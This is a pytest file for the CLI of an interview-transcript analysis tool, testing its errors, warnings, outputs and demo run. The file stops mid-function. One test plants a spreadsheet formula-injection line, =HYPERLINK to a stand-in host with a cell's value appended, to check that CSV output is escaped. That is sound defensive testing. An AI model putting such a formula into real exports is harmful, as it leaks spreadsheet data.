"""The CLI through Typer's CliRunner, and once as a real subprocess."""

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest
import typer
from typer.testing import CliRunner

from conftest import DEMO, make_docx
from tr_nlp.cli import app
from tr_nlp.ingest import load_corpus
from tr_nlp.ingest.qdpx import read_qdpx

runner = CliRunner()


def run(*args):
    return runner.invoke(app, [str(a) for a in args])


def test_inspect_demo_lists_every_interview_with_roles():
    result = run("inspect", DEMO, "--json")
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    records = {r["interview_id"]: r for r in data["interviews"]}
    assert sorted(records) == [f"demo{i:02d}" for i in range(1, 19)]
    for r in records.values():
        assert sorted(r["speakers"].values()) == ["interviewer", "participant"], r
        assert r["synthetic"] is True
    assert records["demo03"]["speakers"] == {"Interviewer": "interviewer", "Jo": "participant"}
    assert records["demo09"]["speakers"] == {"Speaker 1": "interviewer", "Speaker 2": "participant"}
    assert data["failed"] == []
    # the times in the recording each gives: subtitles and timed labels do, plain labels not
    assert (records["demo17"]["times"], records["demo17"]["time_span"]) == (23, [3.0, 129.933])  # 23 cues
    assert (records["demo06"]["times"], records["demo06"]["time_span"]) == (20, [4.0, 187.0])  # 20 labels
    assert (records["demo01"]["times"], records["demo01"]["time_span"]) == (0, None)
    # the lines a text file's transcript runs over (after its front matter); a subtitle file numbers none
    lines = (DEMO / "interviews" / "demo01.txt").read_text(encoding="utf-8").split("\n")
    first, last = records["demo01"]["line_span"]
    assert lines[first - 1].startswith("Interviewer:") and lines[last - 1].strip() and not any(lines[last:])
    assert records["demo03"]["line_span"] is None
    # the codings corpus.yaml names, by coder: demo12 was coded by one coder only
    assert (records["demo01"]["codings"], records["demo12"]["codings"]) == (
        {"coder_a": 9, "coder_b": 9}, {"coder_a": 7})


@pytest.mark.parametrize("command", [
    ["inspect"], ["segment"], ["train", "-o", "m"], ["evaluate"], ["code", "--model", "m", "-o", "s.csv"],
    ["next", "--model", "m"], ["discover", "-o", "d"], ["export", "-o", "p.qdpx"], ["batch", "--model", "m", "-o", "b"],
    ["pseudonymise"]])
def test_every_command_that_reads_transcripts_says_when_it_was_given_none(command):
    r = run(*command)
    assert r.exit_code == 2 and "[E163]" in r.stderr
    assert "no transcripts given: name them after the command" in " ".join(r.stderr.split())


def test_transcripts_are_given_after_the_command_or_with_corpus_alike(tmp_path):
    # `tr-nlp code --corpus new/` was refused ("No such option: --corpus") where train and evaluate take it, and
    # `tr-nlp export new/` for want of it: each command now takes both, together too
    one, two = DEMO / "interviews" / "demo01.txt", DEMO / "interviews" / "demo02.docx"
    r = run("inspect", "--corpus", one, "--corpus", two)
    assert r.exit_code == 0 and "2 file(s), 2 interview(s)" in r.stdout
    r = run("inspect", one, "--corpus", two)
    assert r.exit_code == 0 and "2 file(s), 2 interview(s)" in r.stdout
    r = run("export", one, "-o", tmp_path / "p.qdpx")
    assert r.exit_code == 0, r.stderr
    assert [iv.id for iv in read_qdpx(tmp_path / "p.qdpx").interviews] == ["demo01"]


def test_a_speaker_role_naming_no_speaker_is_said_with_the_speakers_there_are():
    # a mistyped --speaker-role name set no role and said nothing
    r = run("inspect", DEMO / "interviews" / "demo01.txt", "--speaker-role", "Interviewer=interviewer",
            "--speaker-role", "Partcipant=participant")
    assert r.exit_code == 0, r.output
    assert ("--speaker-role gives 'partcipant' a role, but no speaker of demo01 has that name (did you mean "
            "'Participant'?); its speakers: 'Interviewer', 'Participant'") in r.stderr
    assert "'interviewer'" not in r.stderr.split("its speakers")[0]  # a name that is a speaker is not named


def test_a_presets_role_naming_no_speaker_of_the_tables_read_is_said(tmp_path):
    table = tmp_path / "talks.csv"  # AnnoMI's columns, another team's speakers
    table.write_text("transcript_id,utterance_id,interlocutor,utterance_text\nt1,0,counsellor,How are you?\n"
                     "t1,1,client,Fine.\n", encoding="utf-8")
    r = run("inspect", table, "--preset", "annomi")
    assert r.exit_code == 0, r.output
    assert ("--preset annomi gives 'therapist' a role, but no speaker of t1 has that name; its speakers: 'client', "
            "'counsellor'") in " ".join(r.stderr.split())


def test_inspect_shows_codings_by_coder_only_when_there_are_some(tmp_path):
    codings = tmp_path / "anna.csv"
    codings.write_text("interview_id,start,end,code\ndemo01,357,504,continuity\n", encoding="utf-8")
    coded = run("inspect", DEMO / "interviews" / "demo01.txt", "--codings", codings)
    assert coded.exit_code == 0, coded.output
    assert "codings" in coded.stdout and "human 1" in coded.stdout
    plain = run("inspect", DEMO / "interviews" / "demo01.txt")
    assert plain.exit_code == 0 and "codings" not in plain.stdout


def test_inspect_says_what_segmenting_would_meet(tmp_path):
    # an interview of no participant speech, and two of speech without a full stop: inspect said
    # nothing of either, where segment and code warned
    (tmp_path / "asks.txt").write_text("Interviewer: Hello?\nInterviewer: Are you there?\n", encoding="utf-8")
    for name, said in (("a", "and then she rang the housing people for me which nobody had done"),
                       ("b", "so i went back to the ward the week after and nobody knew my name")):
        (tmp_path / f"{name}.txt").write_text(f"Interviewer: go on\nParticipant: {' '.join([said] * 8)}\n",
                                              encoding="utf-8")
    result = run("inspect", tmp_path)
    said = " ".join(result.stderr.split())
    assert result.exit_code == 0 and f"{tmp_path / 'asks.txt'}: interview 'asks' has no participant speech" in said
    # alike but for each interview's name: one line, what both share said once
    assert (f"{tmp_path / 'a.txt'} ('a'), {tmp_path / 'b.txt'} ('b'): interview … has 1 stretch(es) of speech of "
            "over 80 words with no full stop") in said
    listed = json.loads(run("inspect", tmp_path, "--json").stdout)["warnings"]
    assert "no participant speech" in listed[str(tmp_path / "asks.txt")][0]
    assert "stretch(es) of speech" in listed[str(tmp_path / "a.txt")][0]


def test_inspect_table_shows_the_times_only_when_some_file_has_them():
    timed = run("inspect", DEMO / "interviews" / "demo17.vtt", DEMO / "interviews" / "demo01.txt")
    assert timed.exit_code == 0 and "times" in timed.stdout and "0:03-2:09" in timed.stdout
    untimed = run("inspect", DEMO / "interviews" / "demo01.txt")
    assert untimed.exit_code == 0 and "times" not in untimed.stdout
    assert "┃ lines" in timed.stdout and "7-53" in timed.stdout  # and the lines, where a file numbers them
    assert "lines" not in run("inspect", DEMO / "interviews" / "demo17.vtt").stdout


def test_a_table_on_a_narrow_terminal_folds_a_long_word_rather_than_cutting_it(tmp_path, monkeypatch):
    # on a laptop's terminal rich cut a word wider than its column short: `evaluate` printed the
    # code non_stigmatizing_attitude as 'non_stigm…' (and beyond_routine as 'beyond_ro…'), `inspect` a
    # file's name the same way, so a row no longer said what it was of
    from rich.console import Console

    from tr_nlp.cli import common

    name = "non_stigmatizing_attitude_site_b_interview_07.txt"
    (tmp_path / name).write_text("I: So?\nP: Well, she listened.\nI: And?\nP: She came back.\n", encoding="utf-8")
    screen = io.StringIO()
    monkeypatch.setattr(common, "out", Console(file=screen, width=60, markup=False, emoji=False))
    assert run("inspect", tmp_path / name).exit_code == 0
    shown = screen.getvalue()
    assert "…" not in shown
    first_column = "".join(line.split("│")[1].strip() for line in shown.splitlines() if line.startswith("│"))
    assert first_column == str(tmp_path / name)


def test_printed_text_is_shown_as_written_not_read_as_markup_or_emoji(tmp_path):
    # the consoles read "[female]" or "[draft]" as a style and dropped it: a speaker 'P1 [female]' was
    # shown as 'P1 ', an error named a file 'notes .txt' that does not exist
    (tmp_path / "p1.txt").write_text("I: So?\nP1 [female]: Well [laughs].\nI: And?\nP1 [female]: Yes.\n",
                                     encoding="utf-8")
    (tmp_path / "notes [draft].txt").write_bytes(b"")
    (tmp_path / ":fire:.txt").write_bytes(b"")  # nor an emoji code an emoji
    result = run("inspect", tmp_path)
    assert result.exit_code == 1
    assert "P1 [female] (participant)" in result.stdout
    said = " ".join(result.stderr.split())
    assert f"error: {tmp_path / 'notes [draft].txt'}: [E101]" in said
    assert f"error: {tmp_path / ':fire:.txt'}: [E101]" in said


def test_inspect_cites_a_printout_numbered_on_each_page_by_its_first_line(tmp_path):
    # a printout whose numbering starts again on each page showed "118-6", as if it ran back
    pages = "".join(f"{n}  {'IP'[n % 2]}: Line {n}.\n" for n in (*range(118, 127), *range(1, 7)))
    (tmp_path / "p07.txt").write_text(pages, encoding="utf-8")
    result = run("inspect", tmp_path / "p07.txt")
    assert result.exit_code == 0, result.output
    assert "118 ff." in result.stdout and "118-6" not in result.stdout


def test_inspect_counts_each_chinese_or_japanese_letter_as_a_word(tmp_path):
    # these languages write no spaces: a turn of eight letters was one word
    path = tmp_path / "zh.txt"
    path.write_text("\u8bbf\u8c08\u8005\uff1a\u4f60\u597d\u5417\uff1f\n"
                    "\u53d7\u8bbf\u8005\uff1a\u6211\u5f88\u597d\u3002 Okay, thanks.\n", encoding="utf-8")
    result = run("inspect", path, "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["interviews"][0]["words"] == 3 + 3 + 2


def test_inspect_table_output():
    result = run("inspect", DEMO)
    assert result.exit_code == 0
    assert "18 file(s), 18 interview(s)" in result.stdout


@pytest.mark.shared_data
def test_inspect_annomi_preset(annomi_full):
    result = run("inspect", annomi_full, "--preset", "annomi", "--json")
    assert result.exit_code == 0
    assert len(json.loads(result.stdout)["interviews"]) == 133


BAD_INPUTS = {
    "empty.txt": b"",
    "binary.txt": b"\x00\x01\x02\x03binary\x00\xff",
    "invalid.txt": "I: café ".encode() + b"\xff\xfe\xfa",
    "broken.vtt": b"WEBVTT\n\n1\n00:00:01.000 -> 00:00:02\nhello\n",
    "truncated.docx": b"PK\x03\x04\x14\x00\x00\x00truncated",
}


@pytest.mark.parametrize("name", sorted(BAD_INPUTS))
def test_bad_input_one_line_exit_2(write, name):
    path = write(name, BAD_INPUTS[name])
    for command in ("inspect", "segment"):
        result = run(command, path)
        assert result.exit_code == 2
        lines = [line for line in result.stderr.splitlines() if line.strip()]
        assert len(lines) == 1, result.stderr
        assert name in lines[0] and "[E1" in lines[0]
        assert "Traceback" not in result.output


def test_an_option_followed_by_another_in_place_of_its_value_is_refused(write, tmp_path, monkeypatch):
    # '--list-names -o names.txt' wrote the names to a file called '-o', and took names.txt for a transcript
    monkeypatch.chdir(tmp_path)
    path = write("a.txt", "I: Hi?\nP: Hello, Ruth.\n")
    result = run("pseudonymise", path, "--list-names", "-o", tmp_path / "names.txt")
    assert result.exit_code == 2 and "--list-names needs a value, but -o follows it" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt"]
    # a value that starts with a hyphen but is no option is a value
    assert run("segment", path, "-o", "-segments.csv").exit_code == 0 and (tmp_path / "-segments.csv").is_file()


def test_csv_missing_mapped_column(write):
    path = write("t.csv", "a,b\n1,2\n")
    result = run("inspect", path, "--text-col", "utterance")
    assert result.exit_code == 2
    assert "t.csv" in result.stderr and "'utterance'" in result.stderr


def test_codebook_with_duplicate_code(write, tmp_path):
    cb = write("codebook.yaml", "codes:\n  - name: care\n  - name: care\n")
    good = write("a.txt", "I: Hi?\nP: Hello.\n")
    result = run("segment", good, "--codebook", cb, "-o", tmp_path / "s.csv")
    assert result.exit_code == 2
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert len(lines) == 1 and "codebook.yaml" in lines[0] and "duplicate code 'care'" in lines[0]


def test_segment_says_which_codings_no_segment_holds(write, tmp_path):
    # a coding of a mother's words (someone else in the room beside I and P) fell out of the codes unsaid
    text = "I: How was it?\nP: Hard at first.\nMum: She rang us on a Sunday.\nI: And then?\nP: Better.\n"
    path = write("p1.txt", text)
    said = text.index("She rang")
    codings = write("codings.csv", f"interview_id,start,end,code,coder\np1,{said},{said + 24},beyond_routine,A\n")
    result = run("segment", path, "--codings", codings, "-o", tmp_path / "s.csv")
    assert result.exit_code == 0, result.stderr
    assert (f"1 coding(s) are on other speech, which no segment (sentences of participant speech) holds: such as "
            f"'beyond_routine' by A in p1 at {said}-{said + 24}; pass --roles participant,other to count them"
            ) in " ".join(result.stderr.split())
    again = run("segment", path, "--codings", codings, "--roles", "participant,other", "-o", tmp_path / "s.csv")
    assert "coding(s) are on" not in again.stderr and "beyond_routine" in pd.read_csv(tmp_path / "s.csv").codes.tolist()


def test_directory_run_reports_bad_files_and_processes_the_rest(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "good.txt").write_text("I: Hi?\nP: Hello. I am fine.\n", encoding="utf-8")
    (folder / "empty.txt").write_bytes(b"")
    (folder / "bad.vtt").write_text("not a vtt", encoding="utf-8")
    make_docx(folder / "ok.docx", [("Interviewer:", " Why?"), ("P:", " Because.")])
    out = tmp_path / "segments.parquet"
    result = run("segment", folder, "-o", out)
    assert result.exit_code == 1  # some files failed, the others were segmented
    assert "empty.txt" in result.stderr and "bad.vtt" in result.stderr
    frame = pd.read_parquet(out)
    assert sorted(frame.interview_id.unique()) == ["good", "ok"]
    assert frame.text.tolist() == ["Hello.", "I am fine.", "Because."] or set(frame.text) == {"Hello.", "I am fine.", "Because."}


def write_alike(folder, n):
    """``n`` transcripts whose speakers' roles are guessed alike, each with a warning saying so."""
    folder.mkdir()
    for i in range(n):
        (folder / f"s{i}.txt").write_text(f"Speaker 1: How were the weeks after visit {i}?\n"
                                          "Speaker 2: Up and down. She rang me back the same day.\n", encoding="utf-8")


def test_a_warning_said_of_many_files_is_one_line_naming_some_and_verbose_names_each(tmp_path):
    write_alike(tmp_path / "in", 6)
    result = run("segment", tmp_path / "in", "-o", tmp_path / "segments.csv")
    assert result.exit_code == 0, result.output
    warned = [line for line in result.stderr.splitlines() if line.startswith("warning")]
    names = ", ".join(str(tmp_path / "in" / f"s{i}.txt") for i in range(3))
    assert warned == [(f"warning: {names} and 3 more files: guessed roles from questions asked: 'Speaker 1' = "
                       "interviewer, 'Speaker 2' = participant; set them in the corpus config to be sure")]
    verbose = run("segment", tmp_path / "in", "-o", tmp_path / "segments.csv", "--verbose")
    assert sum(line.startswith("warning") and "guessed roles" in line for line in verbose.stderr.splitlines()) == 6


def test_warnings_alike_but_for_each_files_names_are_one_line_with_the_names(tmp_path):
    # each transcript names its own interviewer and participant: a folder of 200 gave 200 warning lines
    (tmp_path / "in").mkdir()
    pairs = [("Anna", "Kim"), ("Ben", "Lou"), ("Carla", "Max"), ("Dev", "Noa"), ("Emma", "Oli")]
    for i, (asks, says) in enumerate(pairs):
        (tmp_path / "in" / f"p{i}.txt").write_text(f"{asks}: How were the weeks after visit {i}?\n"
                                                   f"{says}: Up and down. She rang me back the same day.\n"
                                                   f"{asks}: What did that mean to you?\n"
                                                   f"{says}: That someone was there, for once.\n", encoding="utf-8")
    result = run("segment", tmp_path / "in", "-o", tmp_path / "segments.csv")
    assert result.exit_code == 0, result.output
    warned = [line for line in result.stderr.splitlines() if line.startswith("warning")]
    first = ", ".join(f"{tmp_path / 'in' / f'p{i}.txt'} ('{asks}', '{says}')"
                      for i, (asks, says) in enumerate(pairs[:3]))
    assert warned == [f"warning: {first} and 2 more files: guessed roles from questions asked: … = interviewer, "
                      "… = participant; set them in the corpus config to be sure"]
    verbose = run("segment", tmp_path / "in", "-o", tmp_path / "segments.csv", "--verbose")
    assert "'Emma' = interviewer, 'Oli' = participant" in verbose.stderr


@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".jsonl"])
def test_segment_each_format_offsets_hold(tmp_path, suffix):
    out = tmp_path / f"segments{suffix}"
    result = run("segment", DEMO, "--unit", "sentence", "-o", out)
    assert result.exit_code == 0, result.stderr
    frame = {".csv": pd.read_csv, ".parquet": pd.read_parquet,
             ".jsonl": lambda p: pd.read_json(p, lines=True, dtype=False)}[suffix](out)
    from tr_nlp.ingest import load_corpus

    texts = {iv.id: iv.text for iv in load_corpus([DEMO]).interviews}
    assert set(frame.interview_id.astype(str)) == set(texts)
    for row in frame.itertuples():
        assert texts[str(row.interview_id)][row.start:row.end] == row.text
    assert {"segment_id", "speaker", "role", "codes"} <= set(frame.columns)
    assert (frame.role == "participant").all()


def test_segment_csv_text_opens_in_a_spreadsheet_as_text(tmp_path):
    """A turn that starts like a formula is written with an apostrophe before it (to a file or
    stdout), and tr_nlp reads the CSV back to the exact text."""
    transcript = tmp_path / "t.txt"
    transcript.write_text('Interviewer: And then?\nP1: =HYPERLINK("http://x.example/?"&A1) was in the letter.\n'
                          "Interviewer: Right.\nP1: - yeah. Well, +1 to that.\n", encoding="utf-8")
    result = run("segment", transcript, "--unit", "turn", "-o", tmp_path / "s.csv")
    assert result.exit_code == 0, result.output
    stdout = run("segment", transcript, "--unit", "turn")
    # the file starts with the byte-order mark Excel needs to read UTF-8; a pipe gets none
    assert stdout.exit_code == 0 and "\ufeff" + stdout.stdout == (tmp_path / "s.csv").read_text(encoding="utf-8")
    cells = [row["text"] for row in csv.DictReader(io.StringIO(stdout.stdout))]
    assert [cell[:2] for cell in cells] == ["'=", "'-"]
    from tr_nlp.ingest.table import load_frame

    frame = load_frame(tmp_path / "s.csv")[0]
    text = transcript.read_text(encoding="utf-8")
    assert frame.text.tolist() == [cell[1:] for cell in cells]
    assert [text[int(s):int(e)] for s, e in zip(frame.start, frame.end)] == frame.text.tolist()


def test_segments_no_coding_falls_on_get_an_empty_codes_column(tmp_path):
    """Coders code participants; the interviewer's turns carry no coding (this crashed in pandas)."""
    result = run("segment", DEMO, "--unit", "turn", "--roles", "interviewer", "-o", tmp_path / "s.csv")
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(tmp_path / "s.csv", keep_default_na=False)
    assert len(frame) > 100 and (frame.role == "interviewer").all() and (frame.codes == "").all()
    result = run("segment", DEMO, "--roles", "other", "-o", tmp_path / "o.csv")  # no speaker is 'other'
    assert result.exit_code == 0 and "gives no segment" in result.stderr
    # each named, those alike in one line (demo04 and demo18 both have speakers I and R)
    assert all(f"demo{k:02d}" in result.stderr for k in range(1, 19))
    assert result.stderr.count("gives no segment") < 18
    result = run("segment", DEMO, "--roles", ",", "-o", tmp_path / "t.csv")
    assert result.exit_code == 2 and "no speaker role to keep" in result.stderr
    assert not (tmp_path / "t.csv").exists()


@pytest.mark.parametrize("overlap", ["0", "5", "-0.5"])
def test_segment_refuses_an_overlap_share_outside_0_to_1_even_without_codings(tmp_path, overlap):
    result = run("segment", DEMO / "interviews" / "demo01.txt", "--overlap", overlap, "-o", tmp_path / "s.csv")
    assert result.exit_code == 2 and "[E163]" in result.stderr and "expected 0 < t <= 1" in result.stderr
    assert not (tmp_path / "s.csv").exists()


def test_segment_unsupported_output_type(tmp_path):
    result = run("segment", DEMO, "-o", tmp_path / "s.xlsx")
    assert result.exit_code == 2 and "s.xlsx" in result.stderr


def test_code_names_an_interview_with_no_participant_speech_and_takes_speaker_roles(demo_run, tmp_path):
    asks = tmp_path / "asks.txt"
    asks.write_text("Interviewer: Hello?\nInterviewer: Are you there?\n", encoding="utf-8")
    result = run("code", asks, "--model", demo_run / "model", "-o", tmp_path / "s.csv")
    assert result.exit_code == 0 and f"{asks}: interview 'asks' has no participant speech" in result.stderr
    assert "pre-screening" not in result.stderr  # was "0 of 0 segments (n/a) hold a suggestion; ... the other 0"
    # no segment and --only-above: an empty table, where it was a KeyError's traceback
    result = run("code", asks, "--model", demo_run / "model", "-o", tmp_path / "s.parquet", "--only-above")
    assert result.exit_code == 0 and "0 suggestions above threshold, in 0 of 1 interview(s)" in result.stderr
    assert pd.read_parquet(tmp_path / "s.parquet").empty
    result = run("code", asks, "--model", demo_run / "model", "-o", tmp_path / "s.csv",
                 "--speaker-role", "Interviewer=participant")
    assert result.exit_code == 0 and "no participant speech" not in result.stderr
    assert "pre-screening: " in result.stderr and " of 2 segments (" in result.stderr
    assert pd.read_csv(tmp_path / "s.csv").segment_id.nunique() == 2


def test_code_says_how_many_interviews_hold_a_suggestion(demo_run, tmp_path):
    (tmp_path / "asks.txt").write_text("Interviewer: Hello?\nInterviewer: Are you there?\n", encoding="utf-8")
    (tmp_path / "tells.txt").write_text(
        "Interviewer: And the nurse?\nParticipant: She never treated me like I was mad, she stayed after her "
        "shift and rang the housing office for me, which she did not have to do.\n", encoding="utf-8")
    result = run("code", tmp_path / "asks.txt", tmp_path / "tells.txt", "--model", demo_run / "model",
                 "-o", tmp_path / "s.csv")
    above = pd.read_csv(tmp_path / "s.csv").query("above_threshold")
    assert result.exit_code == 0 and set(above.interview_id) == {"tells"}
    # was "... above threshold in 2 interview(s)": the interviews read, not those with a suggestion
    assert f"{len(above)} suggestions above threshold, in 1 of 2 interview(s)" in result.stderr


def test_demo_command_writes_run_folder(demo_run):
    """The demo ran with network sockets blocked (see the demo_run fixture) and wrote every output."""
    run_json = json.loads((demo_run / "run.json").read_text())
    assert run_json["summary"]["interviews"] == 18
    on_characters = run_json["summary"]["agreement_characters_pooled"]
    assert all(row["alpha_u_ci"][0] <= row["alpha_u"] <= row["alpha_u_ci"][1] for row in on_characters)
    # the pooled kappas printed read as agreement.csv has them to two decimals (run.json held
    # them to three, and 0.5547 printed as 0.56 beside the table's 0.55)
    from tr_nlp.agreement.tables import OVERALL, rounded

    table = pd.read_csv(demo_run / "agreement.csv")
    said = (demo_run / "stderr.txt").read_text()
    for r in table[table.code == OVERALL].itertuples():
        raters = f"{r.rater_a} ~ {r.rater_b}" + (" (double-coded)" if r.comparison.endswith("double-coded") else "")
        assert (f"(all codes, CV, segments): {raters}: kappa {rounded(r.kappa)} [{rounded(r.kappa_lo)}, "
                f"{rounded(r.kappa_hi)}]") in said
    # the codes the machine mixes up most, beside the coders (code_crossings.csv's rows, run.json's summary)
    mixed = run_json["summary"]["codes_mixed_up"]
    assert mixed and all(0 < row["segments"] <= row["missed"] for row in mixed)
    first = mixed[0]
    assert (f"codes mixed up (CV, segments): {first['given_by']}'s {first['code']} that {first['missed_by']} did not "
            f"give, {first['missed_by']} gave {first['instead']}: {first['segments']} of {first['missed']} (") in said
    lo, hi = first["share_ci"]  # its interval, printed as run.json has it
    assert lo <= first["segments"] / first["missed"] <= hi and f"[{lo:.0%}, {hi:.0%}])" in said
    stdout = (demo_run / "stdout.txt").read_text()
    assert str(demo_run / "segments.parquet") in stdout
    # every stage ran: model, suggestions for the uncoded interviews, candidate codes, the report last
    for name in ("model/card.json", "agreement.csv", "suggestions.parquet", "candidates.yaml", "topics.parquet",
                 "report.html"):
        assert (demo_run / name).is_file(), name
    assert stdout.rstrip().splitlines()[-1].strip() == f"report: {demo_run / 'report.html'}"
    assert run_json["summary"]["discovery"]["candidates"] >= 3
    # the REFI-QDA project carries both coders, the model's suggestions and the candidates
    project = read_qdpx(demo_run / "project.qdpx")
    assert {c.coder for c in project.codings} == {"coder_a", "coder_b"}
    machine = {c.coder for c in project.machine_codings}
    assert "tr_nlp topic discovery" in machine and any(c.startswith("tr_nlp model demo-theme-model") for c in machine)
    assert sum(code.status == "candidate" for code in project.codebook.codes) == run_json["summary"]["discovery"]["candidates"]
    # and the same as Word documents: the held-out interviews' suggestions are comments, never human coding
    word = load_corpus([demo_run / "word"])  # with the codebook written beside them
    assert len(word.interviews) == 18 and set(word.codings) == set(project.codings)
    assert word.codebook == load_corpus([DEMO]).codebook
    with zipfile.ZipFile(demo_run / "word" / "demo15.docx") as archive:
        assert 'w:author="tr_nlp model demo-theme-model' in archive.read("word/comments.xml").decode("utf-8")


def test_real_subprocess_console_script(tmp_path, write):
    exe = Path(sys.executable).with_name("tr-nlp")
    command = [str(exe)] if exe.exists() else [sys.executable, "-m", "tr_nlp"]
    env = {**os.environ, "COLUMNS": "200"}
    ok = subprocess.run([*command, "inspect", str(DEMO)], capture_output=True, text=True, env=env)
    assert ok.returncode == 0, ok.stderr
    assert "demo01" in ok.stdout
    bad = subprocess.run([*command, "inspect", str(write("e.txt", b""))], capture_output=True, text=True, env=env)
    assert bad.returncode == 2
    assert bad.stderr.strip().count("\n") == 0 and "e.txt" in bad.stderr and "Traceback" not in bad.stderr
    usage = subprocess.run([*command, "segment", "--unit"], capture_output=True, text=True, env=env)
    assert usage.returncode == 2


def test_run_where_no_file_can_be_read_is_an_input_error(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "empty.txt").write_bytes(b"")
    (folder / "bad.vtt").write_text("not a vtt", encoding="utf-8")
    result = run("inspect", folder)
    assert result.exit_code == 2
    assert "empty.txt" in result.stderr and "bad.vtt" in result.stderr


def test_a_command_with_nothing_readable_writes_nothing_over_earlier_outputs(tmp_path):
    earlier = tmp_path / "segments.csv"
    earlier.write_text("yesterday's segments\n")
    missing = run("segment", tmp_path / "typo.txt", "-o", earlier)
    assert missing.exit_code == 2 and earlier.read_text() == "yesterday's segments\n"
    assert [line for line in missing.stderr.splitlines() if line.strip()] == [
        f"error: {tmp_path / 'typo.txt'}: [E100] no such file or folder; check the path"]
    (tmp_path / "empty.txt").write_bytes(b"")
    both = run("pseudonymise", tmp_path / "typo.txt", tmp_path / "empty.txt", "-o", tmp_path / "shared")
    assert both.exit_code == 2 and not (tmp_path / "shared").exists()
    assert "[E100]" in both.stderr and "[E101]" in both.stderr
    assert "[E108] none of the 2 input file(s) could be read (see above), so nothing was written" in both.stderr
    # the wrong folder, or one not filled yet: an empty table replaced yesterday's, and the exit code was 0
    (tmp_path / "incoming").mkdir()
    (tmp_path / "incoming" / "README.md").write_text("Transcripts go here.\n")  # left out as no transcript
    for command, output in (("segment", earlier), ("pseudonymise", tmp_path / "shared"), ("export", tmp_path / "p.qdpx")):
        empty = run(command, *(["--corpus"] if command == "export" else []), tmp_path / "incoming", "-o", output)
        assert empty.exit_code == 2, command
        assert "[E118] no transcript file in the paths given" in " ".join(empty.stderr.split()), command
    assert earlier.read_text() == "yesterday's segments\n"
    assert not (tmp_path / "shared").exists() and not (tmp_path / "p.qdpx").exists()


def test_version_is_the_installed_package_version():
    from importlib.metadata import version

    from tr_nlp import __version__

    result = run("--version")
    assert result.exit_code == 0 and result.stdout.strip() == f"tr-nlp {__version__}"
    assert __version__ == version("tr_nlp")  # pyproject.toml and the package say the same


@pytest.mark.parametrize("option", ["--window", "--stride"])
def test_zero_window_or_stride_is_refused_not_replaced(write, option):
    path = write("a.txt", "I: Hi?\nP: Hello. I am fine.\n")
    result = run("segment", path, "--unit", "window", option, "0")
    assert result.exit_code == 2 and "--window and --stride must be at least 1" in result.stderr


def test_codings_table_beside_the_transcripts_is_not_read_as_one(tmp_path):
    folder = tmp_path / "study"
    folder.mkdir()
    (folder / "a.txt").write_text("I: Who helped?\nP: Sam did.\n", encoding="utf-8")
    (folder / "codings.csv").write_text("interview_id,start,end,code,coder\na,18,26,care,A\n", encoding="utf-8")
    result = run("segment", folder, "--codings", folder / "codings.csv", "-o", tmp_path / "s.csv")
    assert result.exit_code == 0 and "error" not in result.stderr, result.stderr
    assert pd.read_csv(tmp_path / "s.csv")["codes"].tolist() == ["care"]


@pytest.mark.parametrize("args", [
    ["train", "--corpus", "{missing}", "-o", "{file}"],
    ["evaluate", "--corpus", "{missing}", "-o", "{file}"],
    ["discover", "--corpus", "{missing}", "-o", "{file}"],
    ["pseudonymise", "{missing}", "-o", "{file}"],
    ["import", "{missing}", "-o", "{file}"],
    ["demo", "--corpus", "{missing}", "-o", "{file}"],
    ["batch", "{missing}", "--model", "{missing}", "-o", "{file}"],
])
def test_a_folder_output_that_is_a_file_is_refused_before_any_work(tmp_path, args):
    blocker = tmp_path / "results"
    blocker.write_text("someone's notes")
    fill = {"{file}": str(blocker), "{missing}": str(tmp_path / "missing")}
    result = run(*[fill.get(a, a) for a in args])
    # refused before the (missing) inputs are even looked at: no work is lost to a typo in -o
    assert result.exit_code == 2 and "[E173]" in result.stderr and "E100" not in result.stderr, result.stderr
    assert blocker.read_text() == "someone's notes"


@pytest.mark.parametrize("args", [
    ["segment", "{missing}", "-o", "{out}"],
    ["code", "{missing}", "--model", "{missing}", "-o", "{out}"],
    ["next", "--corpus", "{missing}", "--model", "{missing}", "-o", "{out}"],
])
def test_a_table_output_of_unknown_type_is_refused_before_any_work(tmp_path, args):
    fill = {"{out}": str(tmp_path / "suggestions.xlsx"), "{missing}": str(tmp_path / "missing")}
    result = run(*[fill.get(a, a) for a in args])
    assert result.exit_code == 2 and "[E171]" in result.stderr and "'.xlsx'" in result.stderr, result.stderr
    assert not (tmp_path / "suggestions.xlsx").exists()


@pytest.mark.parametrize("args,name", [
    (["code", "{missing}", "--model", "{missing}", "-o", "{out}"], "suggestions.csv"),
    (["export", "--corpus", "{missing}", "-o", "{out}"], "project.qdpx"),
    (["report", "--run", "{missing}", "-o", "{out}"], "report.html"),
])
def test_a_file_output_that_is_a_folder_is_refused_before_any_work(tmp_path, args, name):
    (tmp_path / name).mkdir()
    fill = {"{out}": str(tmp_path / name), "{missing}": str(tmp_path / "missing")}
    result = run(*[fill.get(a, a) for a in args])
    assert result.exit_code == 2 and "[E174] is a folder" in result.stderr, result.stderr


def test_several_paths_after_one_corpus_option_as_a_shell_glob_gives_them(tmp_path):
    # `--corpus interviews/demo0[12]*` in a shell: two paths after one option, refused as "extra arguments"
    first, second = DEMO / "interviews" / "demo01.txt", DEMO / "interviews" / "demo02.docx"
    result = run("export", "--corpus", first, second, "-o", tmp_path / "p.qdpx", "--codebook",
                 DEMO / "codebook.yaml")
    assert result.exit_code == 0, result.output
    assert [iv.id for iv in read_qdpx(tmp_path / "p.qdpx").interviews] == ["demo01", "demo02"]
    result = run("export", f"--corpus={first}", second, "-o", tmp_path / "q.qdpx")
    assert result.exit_code == 0 and len(read_qdpx(tmp_path / "q.qdpx").interviews) == 2


@pytest.mark.parametrize("command", ["inspect", "segment", "train", "evaluate", "code", "next", "discover", "import",
                                     "export", "batch", "pseudonymise"])
def test_every_command_that_reads_transcripts_takes_speaker_roles(command):
    # set in inspect and segment, the roles must reach training and evaluation too, or they cut other segments
    assert "--speaker-role" in run(command, "--help").stdout


def test_every_command_help_reads_in_an_80_column_terminal():
    # Typer keeps a docstring's line breaks: a line longer than the terminal wraps, then the next line
